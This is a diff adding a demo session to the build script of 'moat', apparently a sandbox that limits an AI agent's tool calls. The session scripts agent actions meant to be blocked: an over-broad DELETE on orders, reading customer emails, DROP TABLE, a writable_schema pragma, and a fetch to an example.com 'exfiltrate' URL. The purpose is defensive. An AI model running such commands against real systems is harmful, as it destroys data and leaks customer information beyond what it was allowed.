@@ -54,4 +54,21 @@ demo: plugins
     {"tool": "ok"}
     {"tool": "echo", "args": {"text": "still serving"}}
     SESSION
+    printf '\n\033[1m== "clean up the data": scope and magnitude limits on every effect\033[0m\n'
+    cargo run -q --locked -p moat --example demo_sandbox -- target/demo
+    sed -n '/^\[tools.db_execute/,/^$/p' target/demo/moat.toml
+    MOAT_LOG=off {{moat}} --config target/demo/moat.toml batch - <<'SESSION'
+    # the agent looks at the orders
+    {"tool": "db_query", "args": {"sql": "SELECT status, count(*) AS orders FROM orders GROUP BY status"}}
+    # asked to "clean up the data", it deletes every order that is not open...
+    {"tool": "db_execute", "args": {"sql": "DELETE FROM orders WHERE status <> 'open'"}}
+    # ...and is told the numbers; a cleanup the size of the problem goes through
+    {"tool": "db_execute", "args": {"sql": "DELETE FROM orders WHERE status = 'test'"}}
+    # outside the grant: another table, a schema change, a pragma
+    {"tool": "db_query", "args": {"sql": "SELECT email FROM customers"}}
+    {"tool": "db_execute", "args": {"sql": "DROP TABLE orders"}}
+    {"tool": "db_execute", "args": {"sql": "PRAGMA writable_schema = ON"}}
+    # the network: only allow-listed origins
+    {"tool": "fetch", "args": {"url": "https://example.com/exfiltrate?data=orders"}}
+    SESSION
     printf '\ndemo finished.\n'
